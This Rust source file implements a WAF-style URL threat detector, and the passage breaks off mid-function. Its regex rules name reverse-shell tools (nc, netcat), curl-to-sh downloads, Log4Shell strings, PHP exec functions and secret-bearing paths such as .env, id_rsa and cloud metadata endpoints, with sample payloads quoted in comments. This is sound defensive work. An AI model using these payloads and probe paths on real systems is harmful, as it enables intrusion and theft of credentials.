//! Threat-URL detection: flags attack payloads and scanner probes carried in a request URL.
//!
//! A site hands Gatehouse the `REQUEST_URI` it saw (`/shop?q=shoes`) or a full URL
//! (`https://shop.example/wp-login.php`). [`ThreatDetector::inspect`] drops any
//! `scheme://host`, splits path from query (at the first `?` or `#`) and normalises each part
//! the way a WAF would: up to three rounds of percent-decoding (double and triple encoding),
//! IIS `%uXXXX` escapes, overlong UTF-8 and full-width look-alikes of `. / \ < >`, `\xHH`
//! escapes, HTML character references, `+` to space (query only), NULs stripped, backslashes to
//! slashes. Matching is ASCII case-insensitive, which stands in for lower-casing. A URL that
//! needs none of this is matched in place, without allocating.
//!
//! Each part then goes through one compiled [`regex::bytes::RegexSet`]. Injection rules (SQL,
//! XSS, traversal, command, file inclusion, template, LDAP, CRLF, XML) look at path and query;
//! scanner-probe and shell-upload rules only at the path, so a shopper searching for
//! "wp-login.php" is not taken for a scanner. When several rules match, the most severe kind
//! wins (the order of `RULES`).
//!
//! The rules favour precision: a word such as `select`, `union`, `script`, `order` or `alert`
//! never matches on its own, only the syntax an attack needs around it (`union select`,
//! `' or 1=1`, `<script`, `alert(1)`). Deliberate trade-offs that do flag rare honest input:
//! any `../` (so a relative `?next=../orders` redirect), well-known system files named in a
//! search (`/etc/passwd`, `win.ini`), and `javascript:` followed by code.

use std::borrow::Cow;

use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};

/// The kind of attack a URL carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ThreatKind {
    /// SQL injection: tautologies, `union select`, stacked queries, time-based probes.
    SqlInjection,
    /// Cross-site scripting: script tags, event handlers, `javascript:` URLs.
    CrossSiteScripting,
    /// Directory traversal (`../`, encoded forms) or a request for a well-known system file.
    PathTraversal,
    /// OS command or server-side code injection (`;cat /etc/passwd`, `$(id)`, `${jndi:`).
    CommandInjection,
    /// A request for a path that only vulnerability scanners ask for (`/.env`, `/wp-login.php`).
    ScannerProbe,
    /// A request for a web shell or a script inside an upload folder.
    ShellUpload,
    /// Local or remote file inclusion through a stream wrapper (`php://`) or a remote URL.
    FileInclusion,
    /// Server-side template or expression injection (`{{7*7}}`, OGNL, SpEL).
    TemplateInjection,
    /// LDAP filter injection (`*(|(mail=*))`).
    LdapInjection,
    /// CR/LF injection that tries to add a response header.
    CrlfInjection,
    /// XML external entity or CDATA smuggling (`<!ENTITY`, `<![CDATA[`).
    XmlInjection,
}

impl ThreatKind {
    /// A stable snake_case name for logs, metrics and API responses.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::SqlInjection => "sql_injection",
            Self::CrossSiteScripting => "cross_site_scripting",
            Self::PathTraversal => "path_traversal",
            Self::CommandInjection => "command_injection",
            Self::ScannerProbe => "scanner_probe",
            Self::ShellUpload => "shell_upload",
            Self::FileInclusion => "file_inclusion",
            Self::TemplateInjection => "template_injection",
            Self::LdapInjection => "ldap_injection",
            Self::CrlfInjection => "crlf_injection",
            Self::XmlInjection => "xml_injection",
        }
    }

    /// The short prefix used in [`UrlFacts::evidence`].
    fn label(self) -> &'static str {
        match self {
            Self::SqlInjection => "sql injection",
            Self::CrossSiteScripting => "xss",
            Self::PathTraversal => "path traversal",
            Self::CommandInjection => "command injection",
            Self::ScannerProbe => "probe",
            Self::ShellUpload => "shell upload",
            Self::FileInclusion => "file inclusion",
            Self::TemplateInjection => "template injection",
            Self::LdapInjection => "ldap injection",
            Self::CrlfInjection => "crlf injection",
            Self::XmlInjection => "xml injection",
        }
    }
}

/// What the URL says about the request.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct UrlFacts {
    /// The most severe attack found, or `None` for a clean URL.
    pub threat: Option<ThreatKind>,
    /// A short human-readable reason such as `probe: /.env` or
    /// `sql injection: union select`; empty when the URL is clean.
    pub evidence: String,
}

/// Where a rule looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Scope {
    /// Only the normalised path (probes, shells).
    Path,
    /// The normalised path and the normalised query.
    Anywhere,
}

/// One detection pattern. Patterns are compiled case-insensitively, without Unicode classes, over
/// bytes (so `\w`, `\s`, `\b` are ASCII) and run against the normalised path or query.
struct Rule {
    kind: ThreatKind,
    scope: Scope,
    pattern: &'static str,
}

const fn any(kind: ThreatKind, pattern: &'static str) -> Rule {
    Rule {
        kind,
        scope: Scope::Anywhere,
        pattern,
    }
}

const fn path(kind: ThreatKind, pattern: &'static str) -> Rule {
    Rule {
        kind,
        scope: Scope::Path,
        pattern,
    }
}

use ThreatKind::{
    CommandInjection as Cmd, CrlfInjection as Crlf, CrossSiteScripting as Xss,
    FileInclusion as Lfi, LdapInjection as Ldap, PathTraversal as Trav, ScannerProbe as Probe,
    ShellUpload as Shell, SqlInjection as Sqli, TemplateInjection as Tpl, XmlInjection as Xml,
};

/// Every rule, most severe kind first: when several match, the first one wins.
const RULES: &[Rule] = &[
    // ---- command / code injection -------------------------------------------------------
    any(
        Cmd,
        r"(?:;|\||&&|[\n\r`]|\$\()\s*(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|nslookup|xterm|getent)\b",
    ),
    any(
        Cmd,
        r"(?:;|\||&&|[\n\r`]|\$\()\s*(?:cat|more|less|head|tail|nl|tac|type|strings)\s+\S*[/.]",
    ),
    any(
        Cmd,
        r"(?:;|\||&&|[\n\r`]|\$\()\s*(?:ls|dir)\s*(?:-[a-z]+|/|$|[;|`&)]|\s[a-z]:/)",
    ),
    any(
        Cmd,
        r#"(?:^|[=\s'"`;|(0-9.])(?:;|\||&&|`)+\s*id\s*(?:$|[;|`&'")#])|;\s*id\s*;|`\s*id\s*`"#,
    ),
    any(
        Cmd,
        r#"(?:;|\||&&|[\n\r`]|\$\()\s*(?:wget|curl|fetch|tftp|lwp-download|lwp-request)\s+(?:-|['"]|https?:|ftp:|\d|[a-z0-9-]+\.[a-z])"#,
    ),
    any(Cmd, r"\b(?:curl|wget)\s[^|;]{0,200}\|\s*(?:ba|z|k|da)?sh\b"),
    any(
        Cmd,
        r"(?:;|\||&&|[\n\r`]|\$\()\s*(?:(?:ba|z|k|da|c|tc)?sh\s+(?:-[a-z]|/|<|>)|(?:nc|ncat|netcat|telnet)\s+(?:-[a-z]|\d|[a-z0-9.-]+\s+\d)|(?:python[23]?|perl|ruby|php|node|lua)\s+-[a-z]|ping6?\s+(?:-[a-z]|\d|[a-z0-9-]+\.[a-z]))",
    ),
    any(
        Cmd,
        r#"(?:;|\||&&|[\n\r`'"]|\$\()\s*sleep\s+\d+\s*(?:$|[;|&`'")])"#,
    ),
    any(
        Cmd,
        r#"(?:;|\||&&|[\n\r`]|\$\()\s*(?:(?:echo|printf)\s+(?:['"$]|\S+\s*[>|])|rm\s+-[a-z]*[rf]|chmod\s+[+0-7]|chown\s|kill\s+-|mkfifo\s|nohup\s|base64\s+-d|net\s+(?:user|localgroup)\b|reg\s+query\b|certutil\s|bitsadmin\s|mshta\s|rundll32\s|regsvr32\s)"#,
    ),
    any(
        Cmd,
        r"/(?:usr/)?(?:local/)?s?bin/(?:(?:ba|z|k|da|c|tc)?sh|cat|id|ls|echo|nc|busybox|wget|curl|python[23]?|perl|env|uname|whoami)\b",
    ),
    any(
        Cmd,
        r"\bcmd(?:\.exe)?\s*/[ck]\b|\bcmd\.exe\b|\bpowershell(?:\.exe\b|\s+-)",
    ),
    any(
        Cmd,
        r"\$\(\s*(?:id|whoami|uname|ls|cat|wget|curl|sleep|echo|ping|nslookup|ifconfig|hostname|nc|bash|sh|python[23]?|perl|rm|env|ps|pwd|dir)\b",
    ),
    any(
        Cmd,
        r"`\s*(?:id|whoami|uname|ls|dir|pwd|cat|wget|curl|sleep|echo|ping|nslookup|ifconfig|ipconfig|hostname|nc|bash|sh|python[23]?|perl|php|rm|env|ps|netstat)\b[^`]{0,80}(?:`|$)",
    ),
    any(Cmd, r"\$\{ifs\}|\$ifs\b|\{(?:cat|ls|id|echo|wget|curl),"),
    // Log4Shell and its obfuscated forms.
    any(Cmd, r"\$\{\s*(?:jndi\s*:|\$\{|lower:|upper:|::-|env:|sys:)"),
    // Server-side includes.
    any(Cmd, r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b"),
    // PHP code injection.
    any(
        Cmd,
        r#"\b(?:system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec|assert|eval|call_user_func|create_function|preg_replace)\s*\(\s*['"$]|\b(?:phpinfo|base64_decode|gzinflate|str_rot13)\s*\(|<\?php\b|<\?="#,
    ),
    // ---- file inclusion -----------------------------------------------------------------
    any(
        Lfi,
        r"\b(?:php|phar|zip|zlib|compress\.zlib|compress\.bzip2|data|expect|glob|file|jar|gopher|dict|ldaps?|rmi|tftp|ogg|rar|ssh2|netdoc|jdbc)://",
    ),
    any(
        Lfi,
        r"\bdata:(?:text/(?:plain|x-php)|application/(?:x-httpd-php|x-php|octet-stream))[;,]",
    ),
    // A remote URL handed to a parameter whose name says "file to load" (exact names, or
    // suffixes like GALLERY_BASEDIR): generic names such as url=, redirect= or redir= are left
    // alone because they carry URLs legitimately.
    any(
        Lfi,
        r"(?:^|[&;])(?:(?:file|page|path|dir|folder|root|include|inc|template|tpl|conf|config|mod|module|lang|language|layout|load|read|require|filename|pg|pagina)|[\w.\[\]-]*(?:root|basedir|base_dir|_dir|abspath|_include|include_path|_inc|_tpl|_template|_module|_conf|_config))\s*=\s*(?:https?|ftps?)://",
    ),
    any(
        Lfi,
        r"=\s*(?:https?|ftps?)://[^&\s?]*/[^&\s?/]*\.[a-z0-9]{1,5}\?+\s*(?:$|&)|=\s*(?:https?|ftps?)://[^&\s?]+\.(?:txt|gif|jpe?g|png)\?",
    ),
    any(
        Lfi,
        r#"\b(?:include|require)(?:_once)?\s*\(?\s*['"]?\s*(?:https?|ftps?)://"#,
    ),
    // ---- template / expression injection ------------------------------------------------
    any(
        Tpl,
        r"\{\{\s*\d+\s*[*+/-]\s*\d+\s*\}\}|[$#]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|<%=?\s*\d+\s*[*+]\s*\d+\s*%>",
    ),
    any(
        Tpl,
        r"\{\{[^}]{0,120}(?:__class__|__globals__|__builtins__|__import__|__subclasses__|__mro__|__init__|config\.items|self\._|request\.application|constructor\.constructor|lipsum\.|cycler\.|joiner\.)",
    ),
    any(
        Tpl,
        r"\$\{[^}]{0,120}(?:getruntime|processbuilder|\.exec\(|class\.forname|t\s*\(\s*java\.)|[$%]\{[^}]{0,200}(?:#_memberaccess|@java\.lang|#context|ognlcontext)|\{php\}",
    ),
    // ---- SQL injection ------------------------------------------------------------------
    any(
        Sqli,
        r"\bunion(?:\s|/\*[^*]*\*/|\(|#[^\n]*\n|--[^\n]*\n)+(?:all|distinct|distinctrow)?(?:\s|/\*[^*]*\*/|\()*select\b",
    ),
    // Quoted tautology: ' or 'a'='a, " or ""=", ') or ('x'='x, ' or username like '%.
    any(
        Sqli,
        r#"['"`]\s*\)*\s*(?:(?:or|and|xor)\b|\|\||&&)\s*\(*\s*(?:['"][^'"]{0,30}['"]|[\w@.$]+)\s*(?:\(\s*\))?\s*(?:=|<>|!=|<=>|\blike\b|\brlike\b|\bregexp\b|\bin\s*\()"#,
    ),
    // Numeric tautology: or 1=1, and 2>1.
    any(
        Sqli,
        r#"(?:^|[\s'"`)(=])(?:(?:or|and|xor)\b|\|\||&&)\s*\(*\s*['"]?\d+['"]?\s*(?:=|<>|!=|<=>|[<>]=?)\s*\(*\s*['"]?\d+"#,
    ),
    any(
        Sqli,
        r"\b(?:or|and)\s+(?:user|current_user|session_user|system_user|database|schema|version|@@version|db_name|user_name)\s*(?:\(\s*\))?\s*=",
    ),
    // Comment after a closing quote: admin'--, admin'#, ' /*.
    any(
        Sqli,
        r#"['"]\s*\)*\s*;?\s*(?:--(?:\s*(?:$|&|[-+#;'"])|[^\s\w])|/\*)|'\s*\)*\s*;?\s*#(?:\s|$|[a-z])|'\w*--(?:\s*(?:$|&)|[-'";+])"#,
    ),
    any(Sqli, r#"['"]\s*(?:or|and)\s+\d+\s*(?:--|#|/\*|;|$)"#),
    any(
        Sqli,
        r"\b(?:sleep|pg_sleep)\(\s*\d+\s*\)|\bbenchmark\s*\(\s*\d+\s*,|\bwaitfor\s+(?:delay|time)\s+'|\bdbms_pipe\.receive_message|\bdbms_lock\.sleep|\brandomblob\s*\(",
    ),
    any(
        Sqli,
        r"\b(?:information_schema|sysobjects|syscolumns|sysusers|sysdatabases|msysobjects|msysaccessobjects|pg_catalog|pg_shadow|pg_user|sqlite_master|sqlite_schema|mysql\.user|all_tables|all_tab_columns|user_tables|dba_users)\b|\bv\$version\b",
    ),
    any(
        Sqli,
        r"\b(?:xp_cmdshell|xp_regread|xp_regwrite|xp_dirtree|xp_fileexist|sp_password|sp_executesql|sp_oacreate|sp_makewebtask|sp_addlogin|sp_configure|utl_http|utl_inaddr|utl_file|dbms_xmlgen|dbms_java|load_file|extractvalue|updatexml|group_concat|make_set|export_set)\b|@@(?:version|hostname|datadir|basedir|servername|tmpdir|identity|rowcount)\b",
    ),
    any(
        Sqli,
        r"\binto\s+(?:out|dump)file\b|\bexec(?:ute)?\s+(?:master\.|xp_|sp_|\()|\b(?:char|chr|nchar)\(\s*\d+\s*(?:,\s*\d+\s*)+\)|\b(?:char|chr|nchar)\(\s*\d+\s*\)\s*(?:\+|\|\|)|\bconcat(?:_ws)?\s*\([^)]{0,60}(?:0x[0-9a-f]|char\(|@@|select\b|version\(|user\(|database\()",
    ),
    // Stacked queries.
    any(
        Sqli,
        r#";\s*(?:(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|procedure|function|view|index|trigger)\b|shutdown\b|declare\s+@|exec(?:ute)?\s|insert\s+into\b|delete\s+from\b|update\s+[\w.\[\]"`]+\s+set\b|select\s+(?:\*|@|null\b|\d|[\w.]+\s*\()|waitfor\s+delay\b)"#,
    ),
    any(
        Sqli,
        r"\bselect\s+(?:\*\s+from\b|@@|null\s*,|count\s*\(\s*\*\s*\)\s+from\b|(?:top\s+\d+\s+)?[\w.,\s*]{1,80}\s+from\s+(?:information_schema|sys|mysql|dual|pg_|master\.)|char\(|concat|group_concat|load_file|version\s*\(|user\s*\(|database\s*\(|sleep\s*\(|benchmark\s*\(|if\s*\(|case\s+when)",
    ),
    any(
        Sqli,
        r#"['"]\s*\)*\s*(?:(?:or|and|union)\b|;|\|\|)\s*\(*\s*select\b|['"]\s*\(+\s*select\b|[=<>]\s*\(\s*select\b|\b(?:and|or)\s+\(\s*select\b"#,
    ),
    any(
        Sqli,
        r#"['"]\s*\)*\s*(?:or|and)\s*\(*\s*(?:not\s+)?exists\b|['"]\s*\|\|\s*(?:\(|[\w.]+\s*\(|utl_|dbms_)|['"]\s*\)*\s*(?:or|and)\s*$"#,
    ),
    // Comment tricks.
    any(
        Sqli,
        r#"/\*!\d*|/\*[^*]{0,40}\*/\s*(?:and|or|select|union|from|where|having|\d|['"(])|(?:\band|\bor|\bselect|\bunion|\bwhere|\bfrom|['")\d])\s*/\*[^*]{0,40}\*/"#,
    ),
    any(
        Sqli,
        r"\border\s+by\s+\d+\s*(?:--|#|/\*|;|,\s*\d)|\bgroup\s+by\s+[\w.]+\s+having\b|\bhaving\s+\d+\s*=\s*\d+|\bwhere\s+\d+\s*=\s*\d+\b|\bcast\s*\([^)]{0,40}\bas\s+(?:int|varchar|char|nvarchar)\b|\bconvert\s*\(\s*int\s*,",
    ),
    // ---- cross-site scripting -----------------------------------------------------------
    any(Xss, r"<\s*/?\s*script\b|&lt;?\s*/?\s*script\b"),
    any(
        Xss,
        r"<\s*(?:iframe|frame|frameset|object|embed|applet|meta|base|link|style|svg|math|xml|xss|isindex|bgsound|layer|ilayer|body|html|form|template|portal|xmp|plaintext|noscript|image|vmlframe|import|marquee|animate|handler|listener|keygen)\b",
    ),
    any(
        Xss,
        r#"[\s/'"`;]on(?:abort|activate|afterprint|afterscriptexecute|animation\w*|auxclick|before\w+|begin|blur|bounce|canplay\w*|change|click|close|contextmenu|copy|cuechange|cut|dblclick|drag\w*|drop|durationchange|end|ended|error|finish|focus\w*|formdata|fullscreen\w*|hashchange|input|invalid|key\w+|load\w*|message|mouse\w+|pagehide|pageshow|paste|pause|play\w*|pointer\w+|popstate|progress|ratechange|readystatechange|repeat|reset|resize|scroll\w*|search|seek\w+|select\w*|show|start|storage|submit|suspend|toggle|touch\w+|transition\w*|unhandledrejection|unload|volumechange|waiting|wheel)\s*="#,
    ),
    // javascript: followed by code; tabs, newlines and other controls may split the word.
    any(
        Xss,
        r#"j[\s\x00-\x1f]*a[\s\x00-\x1f]*v[\s\x00-\x1f]*a[\s\x00-\x1f]*s[\s\x00-\x1f]*c[\s\x00-\x1f]*r[\s\x00-\x1f]*i[\s\x00-\x1f]*p[\s\x00-\x1f]*t[\s\x00-\x1f]*:[\s\x00-\x1f]*(?:[\w$.\[\]'"]+\s*[(=`]|//|/\*|\{|\(|['"`])|\b(?:vb|live)script\s*:"#,
    ),
    any(
        Xss,
        r"\bdocument\s*\.\s*(?:cookie|domain|write(?:ln)?\s*\(|location|forms|body\.innerhtml|createelement)|\bwindow\s*\.\s*(?:location|open\s*\(|name\b|eval)|\.innerhtml\s*=",
    ),
    any(
        Xss,
        r#"\b(?:alert|prompt|confirm|console\.log)\s*(?:\(\s*(?:['"`\d]|document|string|window|this|/|self|top|location)|`)|\bfromcharcode\s*\(|\beval\s*\(\s*(?:atob|unescape|string|['"`]|decodeuri|location|name)|\batob\s*\(|\bsettimeout\s*\(\s*['"`]|:\s*expression\s*\("#,
    ),
    // Breaking out of an attribute or a string into markup: "><script>, '<x>.
    any(
        Xss,
        r#"['"`]\s*/?\s*>\s*<\s*/?\s*[a-z!]|['"`]\s*<\s*[a-z!/]"#,
    ),
    any(
        Xss,
        r"\bdata\s*:\s*(?:text/html|image/svg\+xml|text/javascript|application/(?:x-)?javascript)\b|-moz-binding\s*:|\bbehavior\s*:\s*url\(|<\?import\b|\bdatasrc\s*=|\bsrcdoc\s*=",
    ),
    // ---- XML, LDAP, CRLF ----------------------------------------------------------------
    any(
        Xml,
        r"<!\s*entity\b|<!\s*doctype\s+[\w:-]+\s*(?:\[|system\b|public\b)|<!\[cdata\[|<\?xml\b",
    ),
    any(
        Ldap,
        r"\(\s*[|&!]\s*\(\s*[\w-]+\s*[~<>]?=|\*\)\s*\(\s*[|&]|\)\s*\(\s*\|\s*\(",
    ),
    any(
        Crlf,
        r"[\r\n]\s*(?:set-cookie|content-(?:type|length|disposition)|x-[\w-]+|refresh|access-control-[\w-]+|transfer-encoding)\s*:|[\r\n]\s*location\s*:\s*(?:https?:|/)|[\r\n]\s*http/1\.[01]\s+\d{3}",
    ),
    // ---- path traversal -----------------------------------------------------------------
    any(
        Trav,
        r"\.\./|(?:^|/)\.\.(?:;|$|&|\?)|\.\.0x(?:2f|5c)|0x2e0x2e",
    ),
    any(
        Trav,
        r"\b(?:etc/(?:passwd|shadow|group|gshadow|hosts|issue|motd|sudoers|crontab|fstab|hostname|resolv\.conf|master\.passwd|security/passwd|my\.cnf|httpd/|apache2?/|nginx/|php\.ini|environment|networks|inittab|aliases)|proc/(?:self|version|cpuinfo|meminfo|net/|\d+/)|var/log/|var/www/|windows/(?:win\.ini|system\.ini|system32|repair|panther|debug)|winnt/|boot\.ini|win\.ini|system\.ini|inetpub/|global\.asa\b|web-inf/|meta-inf/|localstart\.asp|conf/server\.xml|usr/local/(?:apache|etc)/)",
    ),
    // ---- shell uploads (path only) ------------------------------------------------------
    path(
        Shell,
        r"/(?:c99|c99shell|c100|r57|r57shell|wso|wso\d+|wsos|b374k|alfa|alfashell|alfa-rex|indoxploit|idx|webshell|web-shell|shell|shell\d+|sh3ll|cmd|cmdasp|cmdjsp|backdoor|simple-backdoor|bypass|priv8|k2ll33d|madspot|leafmailer|xleet|chitoshell|ak47shell|sadrazam|marijuana|0byte|haxor|hacked|hack|hax|phpspy|phpshell|aspxspy|jspspy|up|upl|uploader|lol|x|xx|xxx|a|zz|wp|wp-shell|fm|mini|minishell|symlink|sym|evil|ws)\.(?:php\d?|phtml|pht|phar|asp|aspx|ashx|asmx|jsp|jspx|cfm|cgi|pl)\b",
    ),
    path(
        Shell,
        r"/(?:uploads?|upload_files|user_?uploads|userfiles|user_files|attachments?|avatars?|tmp|temp|sites/default/files|(?:images|media)/uploads?)/(?:[^?]*/)?[^/?]*\.(?:php\d?|phtml|pht|phps|phar|asp|aspx|ashx|jsp|jspx|cgi|pl|py|sh|shtml)\b",
    ),
    path(
        Shell,
        r"\.(?:jpe?g|png|gif|bmp|ico|pdf|txt|docx?|zip)\.(?:php\d?|phtml|phar|asp|aspx|jsp)\b|\.(?:php\d?|phtml|asp|aspx|jsp)\.(?:jpe?g|png|gif)\b|\.(?:asp|aspx|php);[^/]*\.(?:jpe?g|png|gif|txt)\b",
    ),
    // ---- scanner probes (path only) -----------------------------------------------------
    // WordPress: wp-admin except admin-ajax.php, which every WooCommerce storefront calls.
    path(
        Probe,
        r"/wp-(?:login|signup|config|links-opml|mail)\.php\b|/wp-admin(?:/?$|/(?:[^a]|a(?:[^d]|d(?:[^m]|m(?:[^i]|i(?:[^n]|n(?:[^-]|-(?:[^a]|a[^j]))))))))|/xmlrpc\.php\b|/wp-json/wp/v2/users|/wp-includes/wlwmanifest\.xml|/wp-content/debug\.log",
    ),
    path(
        Probe,
        r"/\.(?:env|git|gitconfig|gitignore|git-credentials|svn|hg|bzr|cvs|ds_store|htaccess|htpasswd|aws|ssh|bash_history|zsh_history|sh_history|mysql_history|psql_history|php_history|history|bashrc|profile|npmrc|yarnrc|pypirc|netrc|pgpass|rhosts|docker|dockerenv|dockercfg|kube|idea|vscode|config|travis\.yml|gitlab-ci\.yml|circleci|terraform|vagrant|composer|lynx_cookies|wwwacl|plan|viminfo|remote-sync\.json|ftpconfig|s3cfg|boto|user\.ini)\b|/\.[\w.-]+\.(?:swp|swo)\b",
    ),
    path(
        Probe,
        r"/phpmyadmin|^/(?:pma|myadmin|mysqladmin|mysql-admin|phpmy-admin|sqladmin|dbadmin|db-admin|phppgadmin|pgadmin|adminer(?:\.php)?)(?:/|$)|/adminer\.php\b",
    ),
    path(
        Probe,
        r"/server-(?:status|info)\b|/actuator(?:/|$)|/f?cgi-(?:bin|sys|mod|local)(?:/|$)|/vendor/phpunit|/phpunit/|eval-stdin\.php|/_ignition/|/telescope/requests|/_profiler/|/debug/pprof|/solr/admin|/containers/json|/latest/meta-data|/computemetadata/",
    ),
    path(
        Probe,
        r"\.(?:php\d?|phtml|asp|aspx|jsp|inc|conf|config|cfg|ini|yml|yaml|env|sql|py|rb|xml|json|properties|htaccess|log)[.~_-]?(?:bak|backup|bkp|old|orig|save|sav|swp|swo|tmp|copy|dist)\b|\.(?:php|asp|aspx|jsp|inc|conf|cfg|ini|env)~$",
    ),
    path(
        Probe,
        r"/(?:wp-config|configuration|config|settings|database|db|secrets?|credentials|parameters|local)\.(?:php|inc|yml|yaml|ini|conf|cfg|properties)\b|/web\.config\b|/appsettings(?:\.[\w-]+)?\.json\b|/(?:docker-)?compose\.ya?ml\b|/(?:composer\.(?:json|lock)|package\.json|package-lock\.json|yarn\.lock|gemfile(?:\.lock)?|requirements\.txt|pipfile(?:\.lock)?|dockerfile|sftp-config\.json|ftpsync\.settings)$",
    ),
    path(
        Probe,
        r"\.(?:sql|sqlite3?|mdb|ldb|dump)(?:\.(?:gz|zip|bz2|xz|7z|tar|tgz|rar))?$|/(?:backup|backups|dump|db|database|site|www|web|html|public_html|htdocs|wwwroot|archive|old|src|source|data)\.(?:zip|rar|7z|tar|tar\.gz|tgz|gz|bz2|tar\.bz2)$",
    ),
    path(
        Probe,
        r"\.(?:asa|asax|ini|inc|log|pem|key|ppk|p12|pfx|jks|keystore|kdbx|ovpn|bak|old|orig|swp|sav|tfstate|pwd|nsf)$|/id_(?:rsa|dsa|ecdsa|ed25519)\b",
    ),
    path(
        Probe,
        r"/(?:boaform|gponform|goform)/|/hnap1\b|/setup\.cgi\b|/tmunblock\.cgi|/picsdesc\.xml|/ctrlt/|/level/15/exec|/mgmt/tm/|/dana-na/|/remote/fgt_lang|/stalker_portal|/mifs/|/vpns/|/druid/|/nacos/|/geoserver/|/jenkins/script|/hudson/script|/manager/(?:html|text|status|jmxproxy|deploy)\b|/host-manager\b|/jmx-console\b|/web-console\b|/invoker/(?:ejb|jmx)invokerservlet|/jbossws\b|/jbossmq-httpil|/cfide(?:/|$)|/cfdocs/|/invoker(?:/|$)|/servlet/org\.apache\.|/examples/(?:jsp|servlets?)/|/tomcat-docs\b|/rails/info\b|/config/(?:database|secrets|master|credentials|storage)\.(?:yml|key)|/config\.ru$|/[\w-]+~\d(?:/|$|\.)|\.(?:htx|ida|idc|idq|htw|printer)\b|/iisadmpwd|/(?:admin|author|shtml|fpadmdll|owssvr|fpcount)\.(?:dll|exe)\b|\.pid$|/_vti_\w+|/_fpclass|/_mem_bin|/iisadmin|/iishelp|/iissamples|/msadc(?:/|$)|/scripts/(?:root|cmd)\.exe|/elmah\.axd|/trace\.axd|/(?:php_?info|info|phpversion|i)\.php\b|/wls-wsat/|/_async/|/axis2?(?:-admin)?/|happyaxis\.jsp|snoop\.jsp|/jsp-examples|/servlets-examples|/phf\b|/printenv\b|/test-cgi\b|/~(?:root|bin|ftp|nobody|daemon|sys|adm|lp|mail|guest)\b|/(?:access|error)_log\b|/nph-[\w-]+\.cgi|\.cgi(?:$|/|\?)",
    ),
];

/// Compiled patterns; build once and share (`Send + Sync`).
pub struct ThreatDetector {
    /// Every rule, matched against the normalised path.
    path_set: RegexSet,
    /// Rule index (into `rules`) for each member of `path_set`.
    path_ids: Vec<usize>,
    /// The `Scope::Anywhere` rules, matched against the normalised query.
    query_set: RegexSet,
    /// Rule index (into `rules`) for each member of `query_set`.
    query_ids: Vec<usize>,
    /// The rules that compiled, each with its own regex for extracting evidence.
    rules: Vec<(ThreatKind, Regex)>,
}

impl ThreatDetector {
    /// Compiles the rule set.
    ///
    /// The patterns are literals proven to compile by this module's tests. Should one ever fail
    /// (say, a regex-crate upgrade tightens its syntax), it is skipped rather than panicking, and
    /// if the combined set still cannot be built the detector matches nothing: detection degrades,
    /// the server keeps running.
    pub fn new() -> Self {
        let mut rules = Vec::with_capacity(RULES.len());
        let mut path_patterns = Vec::with_capacity(RULES.len());
        let mut query_patterns = Vec::with_capacity(RULES.len());
        let mut path_ids = Vec::with_capacity(RULES.len());
        let mut query_ids = Vec::with_capacity(RULES.len());
        for rule in RULES {
            let Ok(regex) = configure(&mut RegexBuilder::new(rule.pattern)).build() else {
                continue;
            };
            let id = rules.len();
            rules.push((rule.kind, regex));
            path_patterns.push(rule.pattern);
            path_ids.push(id);
            if rule.scope == Scope::Anywhere {
                query_patterns.push(rule.pattern);
                query_ids.push(id);
            }
        }
        let (path_set, path_ids) = build_set(&path_patterns, path_ids);
        let (query_set, query_ids) = build_set(&query_patterns, query_ids);
        Self {
            path_set,
            path_ids,
            query_set,
            query_ids,
            rules,
        }
    }

    /// Inspects one `REQUEST_URI` (or full URL) and reports the most severe threat it carries.
    pub fn inspect(&self, url: &str) -> UrlFacts {
        let (raw_path, raw_query) = split_url(url.as_bytes());
        let norm_path = normalise(raw_path, false);
        let norm_query = raw_query.map(|q| normalise(q, true));

        let path_hit = first_rule(&self.path_set, &self.path_ids, &norm_path);
        let query_hit = norm_query
            .as_deref()
            .and_then(|q| first_rule(&self.query_set, &self.query_ids, q));
        // Rules are ordered by severity, so the lower index wins.
        let (id, in_query) = match (path_hit, query_hit) {
            (Some(p), Some(q)) if q < p => (q, true),
            (Some(p), _) => (p, false),
            (None, Some(q)) => (q, true),
            (None, None) => return UrlFacts::default(),
        };
        let Some((kind, regex)) = self.rules.get(id) else {
            return UrlFacts::default();
        };
        let haystack: &[u8] = if in_query {
            norm_query.as_deref().unwrap_or_default()
        } else {
            &norm_path
        };
        let snippet = regex
            .find(haystack)
            .map(|m| tidy_snippet(m.as_bytes()))
            .unwrap_or_default();
        UrlFacts {
            threat: Some(*kind),
            evidence: format!("{}: {snippet}", kind.label()),
        }
    }
}

impl Default for ThreatDetector {
    fn default() -> Self {
        Self::new()
    }
}

impl std::fmt::Debug for ThreatDetector {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ThreatDetector")
            .field("rules", &self.rules.len())
            .finish()
    }
}

/// The lowest rule index whose pattern in `set` matches `haystack`. The cheap `is_match`
/// answers for clean input; only a hit pays for the full `matches` pass.
fn first_rule(set: &RegexSet, ids: &[usize], haystack: &[u8]) -> Option<usize> {
    if !set.is_match(haystack) {
        return None;
    }
    let i = set.matches(haystack).iter().next()?;
    ids.get(i).copied()
}

fn configure(builder: &mut RegexBuilder) -> &mut RegexBuilder {
    builder
        .case_insensitive(true)
        .unicode(false)
        .size_limit(1 << 24)
}

/// Builds a set from patterns that each compiled alone; an empty set is the fallback.
fn build_set(patterns: &[&str], ids: Vec<usize>) -> (RegexSet, Vec<usize>) {
    let built = RegexSetBuilder::new(patterns)
        .case_insensitive(true)
        .unicode(false)
        .size_limit(1 << 26)
        .dfa_size_limit(1 << 24)
        .build();
    match built {
        Ok(set) => (set, ids),
        Err(_) => (RegexSet::empty(), Vec::new()),
    }
}

/// Splits a request target into raw path and raw query (everything after the first `?` or `#`),
/// dropping `scheme://authority` from a full URL.
fn split_url(url: &[u8]) -> (&[u8], Option<&[u8]>) {
    let mut rest = url;
    for scheme in [&b"http://"[..], b"https://"] {
        if rest.len() >= scheme.len() && rest[..scheme.len()].eq_ignore_ascii_case(scheme) {
            let after = &rest[scheme.len()..];
            let end = after
                .iter()
                .position(|&b| matches!(b, b'/' | b'?' | b'#'))
